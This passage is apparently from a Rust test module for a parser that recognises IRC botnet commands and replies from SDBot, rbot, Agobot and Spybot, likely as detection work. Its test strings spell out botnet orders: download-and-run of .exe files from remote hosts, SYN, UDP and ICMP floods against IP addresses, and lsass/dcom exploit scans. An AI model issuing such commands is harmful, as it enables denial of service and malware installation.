        assert_eq!(k(".login l0m3za"), OrderKind::Login { user: None });
        assert_eq!(k(".status"), info("status"));
        assert_eq!(k(".sysinfo"), info("sysinfo"));
        assert_eq!(k(".netinfo"), info("netinfo"));
        assert_eq!(
            k(".download http://www.wanees.net/bbnz.exe c:\\bbnz.exe 0"),
            OrderKind::Download {
                update: false,
                url: Some("http://www.wanees.net/bbnz.exe".into()),
                file: Some("c:\\bbnz.exe".into())
            }
        );
        assert_eq!(
            k(".execute 1 c:\\bbnz.exe"),
            OrderKind::Execute {
                visible: Some(true),
                file: Some("c:\\bbnz.exe".into())
            }
        );
        assert_eq!(
            k(".execute notepad.exe"),
            OrderKind::Execute {
                visible: None,
                file: Some("notepad.exe".into())
            }
        );
        assert_eq!(k(".remove"), control("remove"));
        assert_eq!(k(".logout"), control("logout"));
        assert_eq!(k(".quit"), control("quit"));
        // SDBot floods: udp|ping <host> <packets> <size> <delay> [port].
        assert_eq!(
            k(".udp 10.9.9.9 1000 4096 10 53"),
            OrderKind::Ddos {
                flood: DdosKind::UdpFlood,
                target: Some("10.9.9.9".into()),
                port: Some(53),
                duration_s: None,
                delay_ms: Some(10),
                count: Some(1000),
            }
        );
        let OrderKind::Ddos { flood, count, .. } = k(".ping 10.9.9.9 100 65500 0") else {
            panic!()
        };
        assert_eq!((flood, count), (DdosKind::PhatIcmp, Some(100)));
    }

    #[test]
    fn rbot_and_rxbot_commands() {
        let k = |t: &str| parse_order(t).unwrap().kind;
        assert_eq!(k(".si"), info("sysinfo"));
        assert_eq!(k(".ni"), info("netinfo"));
        assert_eq!(k(".lo"), control("logout"));
        assert_eq!(k(".rm"), control("remove"));
        assert_eq!(k(".scanstop"), control("scan.stop"));
        assert_eq!(k(".scanstats"), control("scan.stats"));
        assert!(matches!(
            k(".dl http://h.example/a.exe a.exe 1"),
            OrderKind::Download { update: false, .. }
        ));
        let OrderKind::Scan {
            scanner,
            threads,
            delay_s,
            flags,
            ..
        } = k(".asc lsass 200 5 0 -b -r")
        else {
            panic!()
        };
        assert_eq!(
            (scanner.as_deref(), threads, delay_s),
            (Some("lsass"), Some(200), Some(5))
        );
        assert!(flags.b && flags.r && !flags.s);
        // rbot ddos.syn|ack|random <host> <port> <seconds>.
        assert_eq!(
            k(".ddos.syn 10.1.2.3 6667 300"),
            OrderKind::Ddos {
                flood: DdosKind::SynFlood,
                target: Some("10.1.2.3".into()),
                port: Some(6667),
                duration_s: Some(300),
                delay_ms: None,
                count: None,
            }
        );
        let OrderKind::Ddos { flood, port, .. } = k(".ddos.ack 10.1.2.3 80 60") else {
            panic!()
        };
        assert_eq!((flood, port), (DdosKind::Ack, Some(80)));
        let OrderKind::Ddos { flood, .. } = k(".ddos.random 10.1.2.3 80 60") else {
            panic!()
        };
        assert_eq!(flood, DdosKind::Random);
        let OrderKind::Ddos {
            flood,
            target,
            port,
            duration_s,
            ..
        } = k(".tcpflood ack 10.1.2.3 25 120")
        else {
            panic!()
        };
        assert_eq!(
            (flood, target.as_deref(), port, duration_s),
            (DdosKind::Ack, Some("10.1.2.3"), Some(25), Some(120))
        );
    }

    #[test]
    fn agobot_phatbot_dotted_commands() {
        let k = |t: &str| parse_order(t).unwrap().kind;
        assert_eq!(
            k(".login herder s3cret"),
            OrderKind::Login {
                user: Some("herder".into())
            }
        );
        assert_eq!(k(".bot.sysinfo"), info("sysinfo"));
        assert_eq!(k(".bot.status"), info("status"));
        assert_eq!(k(".bot.about"), info("version"));
        assert_eq!(k(".bot.id"), info("id"));
        assert_eq!(k(".bot.remove"), control("remove"));
        assert_eq!(k(".bot.quit"), control("quit"));
        assert_eq!(
            k(".bot.execute 0 cmd.exe"),
            OrderKind::Execute {
                visible: Some(false),
                file: Some("cmd.exe".into())
            }
        );
        assert_eq!(
            k(".http.execute http://h.example/x.exe c:\\x.exe"),
            OrderKind::Download {
                update: false,
                url: Some("http://h.example/x.exe".into()),
                file: Some("c:\\x.exe".into())
            }
        );
        assert!(matches!(
            k(".bot.update http://h.example/x.exe 7"),
            OrderKind::Download { update: true, .. }
        ));
        assert!(matches!(k(".scan.startall"), OrderKind::Scan { .. }));
        assert_eq!(k(".scan.stop"), control("scan.stop"));
        assert_eq!(k(".scan.enable dcom"), control("scan.config"));
        let OrderKind::Ddos {
            flood,
            port,
            duration_s,
            delay_ms,
            ..
        } = k(".ddos.phatsyn 10.4.4.4 600 0 6667")
        else {
            panic!()
        };
        assert_eq!(
            (flood, port, duration_s, delay_ms),
            (DdosKind::PhatSyn, Some(6667), Some(600), Some(0))
        );
    }

    #[test]
    fn spybot_and_other_prefixes() {
        // Spybot: syn <host> <port> <delay> <packets>.
        let o = parse_order("!syn 10.2.2.2 80 10 1000").unwrap();
        assert_eq!(o.prefix, Some('!'));
        assert_eq!(
            o.kind,
            OrderKind::Ddos {
                flood: DdosKind::SynFlood,
                target: Some("10.2.2.2".into()),
                port: Some(80),
                duration_s: None,
                delay_ms: Some(10),
                count: Some(1000),
            }
        );
        let o = parse_order("?status").unwrap();
        assert_eq!((o.prefix, o.kind), (Some('?'), info("status")));
        let o = parse_order("~sysinfo").unwrap();
        assert_eq!((o.prefix, o.kind), (Some('~'), info("sysinfo")));
        let o = parse_order("$login pass").unwrap();
        assert_eq!(o.kind, OrderKind::Login { user: None });
        // A weak prefix needs a known command; chat needs no prefix at all.
        assert_eq!(parse_order("?hello"), None);
        assert_eq!(parse_order("~~~ welcome ~~~"), None);
        assert_eq!(parse_order("status report tomorrow"), None);
        assert_eq!(parse_order("syn 10.2.2.2 80 10 1000"), None);
        assert_eq!(parse_order("sysinfo").unwrap().kind, info("sysinfo"));
        assert_eq!(parse_order(".123"), None);
    }

    /// Reply formats of SDBot as published by FortiGuard (W32/SDBot.fam:
    /// "cpu: %d MHz. ram: %d KB total, %d KB free. os: Windows %s (%d.%d,
    /// build %d). uptime: %dd %dh %dm", "connection type: %s (%s). local
    /// IP address: %d.%d.%d.%d. connected from: %s").
    #[test]
    fn untagged_sdbot_replies_imply_their_kind() {
        let r = parse_relayed_reply(
            "cpu: 1694 MHz. ram: 523760 KB total, 301228 KB free. os: Windows XP (5.1, build 2600). uptime: 0d 2h 14m",
        )
        .unwrap();
        assert_eq!((r.tag.as_str(), r.tagged), ("SYSINFO", false));
        let r = parse_relayed_reply(
            "connection type: dial-up (MSN). local IP address: 172.16.1.10. connected from: h-68-164-92-148.snvacaid.dynamic.covad.net",
        )
        .unwrap();
        assert_eq!(r.tag, "NETINFO");
        assert_eq!(
            parse_relayed_reply("password accepted.").unwrap().tag,
            "LOGIN"
        );
        let r = parse_relayed_reply("downloading http://www.wanees.net/bbnz.exe...").unwrap();
        assert_eq!(
            (r.tag.as_str(), r.url.as_deref()),
            ("DOWNLOAD", Some("http://www.wanees.net/bbnz.exe"))
        );
        // Tagged replies keep their tag; an order is not a reply.
        assert_eq!(
            parse_relayed_reply("[MAIN]: Password accepted.")
                .unwrap()
                .tag,
            "MAIN"
        );
        assert_eq!(parse_relayed_reply(".sysinfo"), None);
        assert_eq!(parse_relayed_reply("  "), None);
    }
}
